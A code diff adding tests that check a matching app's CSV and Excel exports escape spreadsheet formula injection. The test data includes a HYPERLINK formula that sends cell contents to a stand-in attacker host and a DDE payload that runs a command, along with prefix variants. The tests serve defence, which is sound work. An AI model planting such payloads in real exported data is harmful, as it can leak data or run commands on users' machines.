@@ -106,6 +106,62 @@ def test_export_csv_and_excel(make: Factory, client_as: ClientAs) -> None:
     assert values[1][1:4] == ["approved", people[0], first["postdoc"]["name"]]
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&D3,"查看详情")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def _formula_world(make: Factory, client_as: ClientAs) -> tuple[int, TestClient]:
+    ent = make.enterprise()["id"]
+    for n, formula in enumerate(FORMULAS):
+        make.postdoc(
+            name=formula.strip() or f"p{n}",
+            discipline=formula.strip(),
+            research_interests="焊缝缺陷 机器视觉 检测",
+        )
+    challenge = make.challenge(ent, title="焊缝检测", description="船体焊缝缺陷的机器视觉检测")["id"]
+    hr = client_as(Role.hr)
+    items = hr.get(f"/challenges/{challenge}/match-list", params={"limit": 50}).json()["items"]
+    for item, formula in zip(items, FORMULAS, strict=False):
+        r = hr.patch(f"/match-entries/{item['id']}", json={"status": "approved", "note": formula})
+        assert r.status_code == 200, r.text
+    return challenge, hr
+
+
+def _dangerous(value: str) -> bool:
+    return value[:1] in set("=+-@\t\r＝＋－＠")
+
+
+def test_csv_export_never_holds_a_formula(make: Factory, client_as: ClientAs) -> None:
+    challenge, hr = _formula_world(make, client_as)
+    r = hr.get(f"/challenges/{challenge}/match-list/export?format=csv")
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row[3:5] + row[7:]]
+    assert len(cells) == 3 * len(FORMULAS)
+    assert [c for c in cells if _dangerous(c)] == []
+    names = {row[3] for row in rows[1:]}
+    assert "'" + FORMULAS[0] in names  # escaped, not dropped: the reader still sees the text
+
+
+def test_xlsx_export_never_holds_a_formula(make: Factory, client_as: ClientAs) -> None:
+    challenge, hr = _formula_world(make, client_as)
+    r = hr.get(f"/challenges/{challenge}/match-list/export?format=xlsx")
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c for c in cells if isinstance(c.value, str)]
+    assert all(c.data_type == "s" for c in texts)
+    assert [c.value for c in texts if _dangerous(c.value)] == []
+    assert "'" + FORMULAS[0] in {c.value for c in texts}
+
+
 class RecordingSender:
     """A Sender that keeps what it was given (stands in for an email or webhook backend)."""
 
